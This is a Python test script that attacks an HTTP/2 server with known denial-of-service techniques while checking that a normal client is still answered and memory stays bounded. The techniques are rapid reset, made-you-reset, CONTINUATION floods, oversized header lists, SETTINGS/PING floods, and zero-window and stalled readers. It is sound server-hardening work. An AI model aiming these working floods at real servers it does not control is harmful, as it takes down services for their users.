#!/usr/bin/python3
# tests/http2/hostile.py — HTTP/2 attacks on a server, each while a normal client must still be answered and the server's memory stays bounded.
#
#   hostile.py [--tls] --pid PID [--write-timeout S] ADDRESS SMALL BIG CASE…
#
# ADDRESS is HOST:PORT or a unix socket path, SMALL a path answered 200 with
# a small body, BIG one with a body of many megabytes (the zero-window
# reader asks for it), PID the server's process (its VmRSS is watched).
# CASE is one of the names below, or "all". For each case:
#   - a prober (this script in another process) opens a new connection
#     every 50 ms and GETs SMALL: every answer must come within --latency
#     (1 s), and at least one must come;
#   - the server's VmRSS must stay below its value before the case plus
#     --rss-mib (64 MiB);
#   - the case's own verdict (GOAWAY, closing, a refused stream…).
# One line per case, "NAME PASS (what was seen)" or "NAME FAIL: why"; the
# exit status is 1 if any case failed.

import argparse
import json
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2raw import *  # noqa: E402,F401,F403

OPT = None


class Fail(Exception):
    pass


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def small_block(c):
    return c.block_for(c.request_headers(OPT.small))


def goaway_of(c):
    g = [f for f in c.frames if f.type == GOAWAY]
    return g[0] if g else None


def wait_goaway_and_close(c, timeout):
    """The first GOAWAY seen (or None) and whether the server closed, after
    waiting at most timeout for both."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and not c.closed:
        try:
            c.read_frame(deadline)
        except (Timeout, Closed):
            break
    return goaway_of(c), c.closed


def flood_streams(c, n, make, what, limit=None):
    """Send n streams' frames (make(sid) gives one stream's bytes), reading
    what comes between batches; stops when the server closes. With limit,
    at most that many streams are open at once as the client sees them
    (sent, and not yet ended or reset by the server), as an attacker stays
    within SETTINGS_MAX_CONCURRENT_STREAMS. Returns the number sent."""
    sid = 1
    sent = 0
    batch = 50 if limit is None else max(1, min(50, limit // 2))
    ended = set()
    seen = 0
    while sent < n:
        while limit is not None:
            for f in c.frames[seen:]:
                if f.stream_id and (f.type == RST_STREAM or
                                    (f.type in (HEADERS, DATA) and f.flags_byte & END_STREAM)):
                    ended.add(f.stream_id)
            seen = len(c.frames)
            if goaway_of(c) or c.closed or sent - len(ended) + batch <= limit:
                break
            try:
                c.read_frame(time.monotonic() + 2)
            except (Timeout, Closed):
                return sent
        if goaway_of(c) or c.closed:
            break
        k = min(batch, n - sent)
        out = b"".join(make(sid + 2 * i) for i in range(k))
        try:
            c.send(out)
        except Closed:
            break
        sent += k
        sid += 2 * k
        if not c.poll() or goaway_of(c):
            break
    return sent


def verdict_goaway(c, n, sent, what):
    g, closed = wait_goaway_and_close(c, 3.0)
    if g is None:
        raise Fail("%s: %d of %d sent, no GOAWAY (%s); frames: %s" % (
            what, sent, n, "closed" if closed else "still open", c.trace()))
    if g.error_code == NO_ERROR:
        raise Fail("%s: GOAWAY NO_ERROR, expected an error code" % what)
    if g.last_stream_id >= 2 * n - 1:
        raise Fail("%s: GOAWAY %s only after the last stream (last stream %d)" % (
            what, error_name(g.error_code), g.last_stream_id))
    if not closed:
        raise Fail("%s: GOAWAY %s but the connection stays open" % (what,
                                                                    error_name(g.error_code)))
    debug = bytes(g.additional_data)[:60]
    return "GOAWAY %s%s at stream %d of %d, %d sent, closed" % (
        error_name(g.error_code), " %r" % debug if debug else "", g.last_stream_id, 2 * n - 1,
        sent)


# ---- the cases ----

def case_rapid_reset():
    """CVE-2023-44487: 10 000 HEADERS each cancelled at once by RST_STREAM."""
    n = 10000
    c = Conn(OPT.address, tls=OPT.tls).handshake()
    first = small_block(c)
    rest = small_block(c)  # indexed fields only, the same bytes for every stream
    cancel = struct.pack(">I", CANCEL)

    def make(sid):
        return raw_frame(HEADERS, END_STREAM | END_HEADERS, sid, first if sid == 1 else rest) + \
            raw_frame(RST_STREAM, 0, sid, cancel)
    sent = flood_streams(c, n, make, "rapid reset")
    return verdict_goaway(c, n, sent, "rapid reset")


def request_literal(path, method="GET", extra=()):
    """A request's field block of literals only: the same bytes on every
    stream, whatever came before (no dynamic table)."""
    scheme = "https" if OPT.tls else "http"
    fields = [(":method", method), (":scheme", scheme), (":path", path),
              (":authority", "localhost")] + list(extra)
    return b"".join(lit(k, v) for k, v in fields)


# Frames after which RFC 9113 wants (at least) a stream error: the server
# resets the stream itself. Each stream stays open on the server's side (a
# zero window keeps its answer from finishing) until the bad frame comes.
def _mk_window_overflow(sid):
    return raw_frame(HEADERS, END_STREAM | END_HEADERS, sid, request_literal(OPT.small)) + \
        raw_frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 2**31 - 1)) + \
        raw_frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 1))


def _mk_window_zero(sid):
    return raw_frame(HEADERS, END_STREAM | END_HEADERS, sid, request_literal(OPT.small)) + \
        raw_frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))


def _mk_priority_size(sid):
    return raw_frame(HEADERS, END_STREAM | END_HEADERS, sid, request_literal(OPT.small)) + \
        raw_frame(PRIORITY, 0, sid, b"\0\0\0\0")


def _mk_content_length(sid):
    return raw_frame(HEADERS, END_HEADERS, sid,
                     request_literal(OPT.small, "POST", [("content-length", "1")])) + \
        raw_frame(DATA, END_STREAM, sid, b"xx")


def _mk_uppercase(sid):
    return raw_frame(HEADERS, END_STREAM | END_HEADERS, sid,
                     request_literal(OPT.small) + lit("X-Upper", "1"))


RESET_PRIMITIVES = [("WINDOW_UPDATE overflow", _mk_window_overflow),
                    ("WINDOW_UPDATE 0", _mk_window_zero),
                    ("PRIORITY of 4 octets", _mk_priority_size),
                    ("DATA over content-length", _mk_content_length),
                    ("uppercase field name", _mk_uppercase)]


def case_made_you_reset():
    """CVE-2025-8671: streams each made invalid by a frame the server answers
    with RST_STREAM. Each primitive is tried once first: those the server
    treats as a connection error at once are immune and left out; the others
    go in turn on 10 000 streams of one connection, which must end in GOAWAY
    before the last stream."""
    n = 10000
    resetting, immune = [], []
    for name, make in RESET_PRIMITIVES:
        c = Conn(OPT.address, tls=OPT.tls).handshake((INITIAL_WINDOW_SIZE, 0))
        c.send(make(1))
        try:
            f = c.take(lambda f: f.type in (GOAWAY, RST_STREAM), 1.0)
        except Closed:
            raise Fail("%s once: closed without RST_STREAM or GOAWAY" % name)
        except Timeout:
            f = None
        if f is None:
            # Neither: a 4xx, or the frame ignored: no reset to count.
            immune.append(name + " (no reset)")
        elif f.type == GOAWAY:
            immune.append(name)
        else:
            resetting.append((name, make))
        c.close()
    if not resetting:
        return "every primitive is a connection error at once: " + ", ".join(immune)
    c = Conn(OPT.address, tls=OPT.tls).handshake((INITIAL_WINDOW_SIZE, 0))

    def make(sid):
        return resetting[(sid // 2) % len(resetting)][1](sid)
    sent = flood_streams(c, n, make, "made you reset",
                         limit=c.server_settings.get(MAX_CONCURRENT_STREAMS, 100))
    resets = sum(1 for f in c.frames if f.type == RST_STREAM)
    what = "made you reset (%s)" % ", ".join(x[0] for x in resetting)
    return verdict_goaway(c, n, sent, what) + ", %d RST_STREAM from the server; immune: %s" % (
        resets, ", ".join(immune) or "none")


def case_continuation_flood():
    """CVE-2024-28182: HEADERS without END_HEADERS, then CONTINUATION frames
    without end, each with a whole field of 16 KiB."""
    c = Conn(OPT.address, tls=OPT.tls).handshake()
    c.headers(1, small_block(c), end_headers=False)
    start = time.monotonic()
    sent = 0
    limit = 10000  # 160 MiB: far more than any limit
    while sent < limit and time.monotonic() - start < 5:
        frames = b"".join(raw_frame(CONTINUATION, 0, 1, lit("x-flood-%d" % (sent + i), "a" * 16000))
                          for i in range(10))
        try:
            c.send(frames)
        except Closed:
            break
        sent += 10
        if not c.poll() or goaway_of(c):
            break
    g, closed = wait_goaway_and_close(c, 3.0)
    took = time.monotonic() - start
    if g is None:
        raise Fail("%d CONTINUATION frames (%.1f s), no GOAWAY (%s)" % (
            sent, took, "closed: %s" % c.close_reason if closed else "still open"))
    if g.error_code == NO_ERROR:
        raise Fail("GOAWAY NO_ERROR after %d CONTINUATION frames" % sent)
    if not closed:
        raise Fail("GOAWAY %s but the connection stays open" % error_name(g.error_code))
    if took > 4:
        raise Fail("GOAWAY %s only after %.1f s" % (error_name(g.error_code), took))
    return "GOAWAY %s after %d CONTINUATION frames sent (%.2f s), closed" % (
        error_name(g.error_code), sent, took)


def big_header_list(parts):
    """A request whose field block is the given pieces: HEADERS with the
    first, CONTINUATION with the others, the last with END_HEADERS."""
    c = Conn(OPT.address, tls=OPT.tls).handshake()
    try:
        c.frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), 1, parts[0])
        for i, p in enumerate(parts[1:]):
            c.frame(CONTINUATION, END_HEADERS if i == len(parts) - 2 else 0, 1, p)
            c.poll()
    except Closed:
        pass
    deadline = time.monotonic() + 3
    while True:
        for f in c.frames:
            if f.type == GOAWAY:
                return "GOAWAY %s" % error_name(f.error_code)
            if f.stream_id == 1 and f.type == RST_STREAM:
                return "RST_STREAM %s" % error_name(f.error_code)
            if f.stream_id == 1 and f.type == HEADERS:
                status = dict(f.decoded or []).get(":status")
                if status == "431" or (status or "").startswith("4"):
                    return "answered %s" % status
                raise Fail("a 1 MiB header list answered %s" % status)
        try:
            c.read_frame(deadline)
        except Closed:
            raise Fail("closed without GOAWAY, RST_STREAM or 431; frames: %s" % c.trace())
        except Timeout:
            raise Fail("no answer to a 1 MiB header list in 3 s; frames: %s" % c.trace())


def case_header_list_fields():
    """A 1 MiB header list of 64 fields of 16 KiB, one per frame."""
    c0 = Conn.__new__(Conn)  # only for its request fields
    c0.tls = OPT.tls
    base = b"".join(lit(k, v) for k, v in Conn.request_headers(c0, OPT.small))
    parts = [base] + [lit("x-big-%d" % i, "b" * 16384) for i in range(64)]
    return big_header_list(parts)


def case_header_list_one_field():
    """A 1 MiB header list in one field, its literal cut over 64 frames."""
    c0 = Conn.__new__(Conn)
    c0.tls = OPT.tls
    base = b"".join(lit(k, v) for k, v in Conn.request_headers(c0, OPT.small))
    block = base + lit("x-huge", "h" * (1 << 20))
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    return big_header_list(parts)


def flood_without_reading(frame_bytes, what):
    """Send frame_bytes over and over and never read: the server's answers
    (ACKs) pile up unless it stops reading. It must close the connection
    within the write timeout (plus slack)."""
    s = socket.socket(socket.AF_UNIX if OPT.address.startswith("/") else socket.AF_INET,
                      socket.SOCK_STREAM)
    # A small receive buffer: what the server writes backs up into it soon.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c = Conn(OPT.address, tls=OPT.tls, sock=s).handshake()
    chunk = frame_bytes * max(1, 16384 // len(frame_bytes))
    sock = c.sock
    sock.setblocking(False)
    start = time.monotonic()
    deadline = start + OPT.write_timeout + 6
    sent = 0
    blocked_at = None
    reason = None
    view = memoryview(chunk)
    off = 0
    while time.monotonic() < deadline:
        r, w, _x = select.select([], [sock], [], 0.2)
        if not w:
            if blocked_at is None:
                blocked_at = time.monotonic()
            continue
        try:
            n = sock.send(view[off:])
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            continue
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            reason = str(e)
            break
        blocked_at = None
        sent += n
        off = (off + n) % len(chunk)
    took = time.monotonic() - start
    c.close()
    if reason is None:
        raise Fail("%s: the connection is still open after %.1f s (%d KiB sent)" % (
            what, took, sent // 1024))
    return "%d KiB of %s sent, then the server closed (%s) after %.1f s" % (
        sent // 1024, what, reason, took)


def case_stalled_reader():
    """A client that asks for BIG with every window wide open, then never
    reads: the server's writes stall on the socket. It must not buffer the
    body, and must close the connection within the write timeout (plus
    slack). A PING every 200 ms tells when it has (the send fails)."""
    s = socket.socket(socket.AF_UNIX if OPT.address.startswith("/") else socket.AF_INET,
                      socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c = Conn(OPT.address, tls=OPT.tls, sock=s).handshake((INITIAL_WINDOW_SIZE, 2**31 - 1))
    c.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
    c.request(OPT.big)
    sock = c.sock
    sock.setblocking(False)
    start = time.monotonic()
    deadline = start + OPT.write_timeout + 6
    ping = raw_frame(PING, 0, 0, b"stalled?")
    reason = None
    pending = b""
    while time.monotonic() < deadline:
        time.sleep(0.2)
        try:
            pending = pending or ping
            n = sock.send(pending)
            pending = pending[n:]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            continue
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            reason = str(e)
            break
    took = time.monotonic() - start
    c.close()
    if reason is None:
        raise Fail("a reader that stopped reading: the connection is still open after %.1f s" %
                   took)
    return "the server closed (%s) %.1f s after the request" % (reason, took)


def case_settings_flood():
    return flood_without_reading(raw_frame(SETTINGS, 0, 0), "SETTINGS")


def case_ping_flood():
    return flood_without_reading(raw_frame(PING, 0, 0, b"floodpng"), "PING")


def case_zero_window():
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and many streams asking for BIG: the
    server can send no DATA; it must neither buffer the bodies nor keep the
    connection forever."""
    c = Conn(OPT.address, tls=OPT.tls).handshake((INITIAL_WINDOW_SIZE, 0))
    limit = min(c.server_settings.get(MAX_CONCURRENT_STREAMS, 100), 100)
    first = c.block_for(c.request_headers(OPT.big))
    rest = c.block_for(c.request_headers(OPT.big))
    c.send(b"".join(raw_frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1,
                              first if i == 0 else rest) for i in range(limit)))
    start = time.monotonic()
    deadline = start + OPT.write_timeout + 6
    while time.monotonic() < deadline and not c.closed:
        try:
            c.read_frame(deadline)
        except (Timeout, Closed):
            break
    took = time.monotonic() - start
    data = sum(f.length for f in c.frames if f.type == DATA)
    if data:
        raise Fail("%d bytes of DATA with a zero window" % data)
    if not c.closed:
        raise Fail("%d streams on a zero window: the connection is still open after %.1f s" % (
            limit, took))
    g = goaway_of(c)
    return "%d streams on a zero window, closed after %.1f s%s" % (
        limit, took, " (GOAWAY %s)" % error_name(g.error_code) if g else "")


CASES = [
    ("rapid-reset", case_rapid_reset),
    ("made-you-reset", case_made_you_reset),
    ("continuation-flood", case_continuation_flood),
    ("header-list-fields", case_header_list_fields),
    ("header-list-one-field", case_header_list_one_field),
    ("settings-flood", case_settings_flood),
    ("ping-flood", case_ping_flood),
    ("zero-window", case_zero_window),
    ("stalled-reader", case_stalled_reader),
]


# ---- the prober (another process: the attacker's CPU must not be its) ----

def probe_main(args):
    lat = []
    errors = []
    while True:
        t0 = time.monotonic()
        try:
            c = Conn(args.address, tls=args.tls, timeout=args.latency * 3).handshake()
            s = c.request(args.path)
            st, _h, _b = c.response(s)
            if st != "200":
                errors.append("status %s" % st)
        except Exception as e:  # every failure is reported, whatever its kind
            errors.append("%s: %s" % (type(e).__name__, e))
        for c in Conn.OPENED:
            c.close()
        del Conn.OPENED[:]
        lat.append(time.monotonic() - t0)
        r, _w, _x = select.select([sys.stdin], [], [], 0.05)
        if r and not sys.stdin.buffer.read1(100):
            break
    print(json.dumps({"n": len(lat), "max": max(lat), "errors": errors[:5],
                      "n_errors": len(errors)}))


def under_asan(pid):
    """AddressSanitizer keeps freed memory in quarantine: RSS says little."""
    try:
        with open("/proc/%d/maps" % pid) as f:
            return "libasan" in f.read()
    except OSError:
        return False


def run(name, fn):
    base = rss_kib(OPT.pid)
    peak = [base]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            try:
                peak[0] = max(peak[0], rss_kib(OPT.pid))
            except OSError:
                return
            stop.wait(0.02)
    t = threading.Thread(target=sample, daemon=True)
    t.start()
    cmd = [sys.executable, os.path.abspath(__file__), "probe", "--latency", str(OPT.latency)]
    if OPT.tls:
        cmd.append("--tls")
    probe = subprocess.Popen(cmd + [OPT.address, OPT.small], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE)
    time.sleep(0.1)
    detail = None
    error = None
    try:
        detail = fn()
    except Fail as e:
        error = str(e)
    except Exception as e:  # a broken case is a failure too
        error = "%s: %s" % (type(e).__name__, e)
    # One more probe after the attack.
    time.sleep(0.2)
    try:
        out, _ = probe.communicate(timeout=15)
        pr = json.loads(out)
    except Exception as e:  # a prober that hangs or dies
        probe.kill()
        probe.wait()
        pr = {"n": 0, "max": 0, "errors": ["prober: %s" % e], "n_errors": 1}
    stop.set()
    t.join()
    try:
        os.kill(OPT.pid, 0)
    except OSError:
        error = (error + "; " if error else "") + "the server died"
    grew = (peak[0] - base) / 1024
    problems = []
    if error:
        problems.append(error)
    if pr["n_errors"]:
        problems.append("normal client: %d of %d failed (%s)" % (pr["n_errors"], pr["n"],
                                                                 "; ".join(pr["errors"])))
    elif pr["max"] > OPT.latency:
        problems.append("normal client: answered in %.2f s at worst (limit %.1f s)" % (
            pr["max"], OPT.latency))
    asan = under_asan(OPT.pid)
    if grew > OPT.rss_mib and not asan:
        problems.append("server RSS grew %.1f MiB (limit %d)" % (grew, OPT.rss_mib))
    summary = "client %d answers, worst %.0f ms; RSS +%.1f MiB%s" % (
        pr["n"], pr["max"] * 1000, grew, " (ASan: not checked)" if asan else "")
    if problems:
        print("%-22s FAIL: %s [%s]" % (name, "; ".join(problems), summary))
        return False
    print("%-22s PASS (%s) [%s]" % (name, detail, summary), flush=True)
    return True


def main():
    global OPT
    if len(sys.argv) > 1 and sys.argv[1] == "probe":
        ap = argparse.ArgumentParser()
        ap.add_argument("--tls", action="store_true")
        ap.add_argument("--latency", type=float, default=1.0)
        ap.add_argument("address")
        ap.add_argument("path")
        probe_main(ap.parse_args(sys.argv[2:]))
        return 0
    ap = argparse.ArgumentParser()
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--write-timeout", type=float, default=3)
    ap.add_argument("--latency", type=float, default=1.0)
    ap.add_argument("--rss-mib", type=int, default=64)
    ap.add_argument("address")
    ap.add_argument("small")
    ap.add_argument("big")
    ap.add_argument("cases", nargs="+")
    OPT = ap.parse_args()
    names = [n for n, _f in CASES]
    want = names if OPT.cases == ["all"] else OPT.cases
    for w in want:
        if w not in names:
            ap.error("unknown case %s (cases: %s)" % (w, ", ".join(names)))
    n_fail = 0
    for name, fn in CASES:
        if name in want:
            if not run(name, fn):
                n_fail += 1
            for c in Conn.OPENED:
                c.close()
            del Conn.OPENED[:]
    n = len(want)
    print("%d passed, %d failed" % (n - n_fail, n_fail))
    return 1 if n_fail else 0


if __name__ == "__main__":
    sys.exit(main())
